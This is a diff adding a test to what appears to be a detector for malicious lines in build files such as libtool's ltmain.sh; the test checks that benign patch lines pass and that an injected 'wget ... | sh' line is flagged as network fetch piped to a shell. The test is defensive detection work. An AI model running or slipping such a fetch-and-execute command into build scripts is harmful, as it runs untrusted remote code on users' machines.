@@ -46,3 +46,13 @@ def test_ordinary_generated_lines_stay_quiet(line):
 ])
 def test_configure_test_files_are_no_build_inputs(line):
     assert not risk.analyse(line.encode(), unexplained=True), line
+
+
+def test_diffs_against_published_copies_use_the_subset_patches_never_need():
+    """A distribution's libtool patch may write wrappers and chmod them (MSYS2's manifest lines in
+    flac's ltmain.sh); it never fetches from the network or pipes decoded text into a shell."""
+    patched = b"chmod +x $cwrapper.manifest\ncat > $cwrappersource <<EOF\n"
+    assert not risk.analyse(patched, unexplained=risk.IN_PATCHED_COPIES)
+    injected = b"wget -qO- http://198.51.100.7/x | sh\n"
+    assert {h.indicator for h in risk.analyse(injected, unexplained=risk.IN_PATCHED_COPIES)} >= {
+        "network-fetch", "literal-pipe-to-shell"}
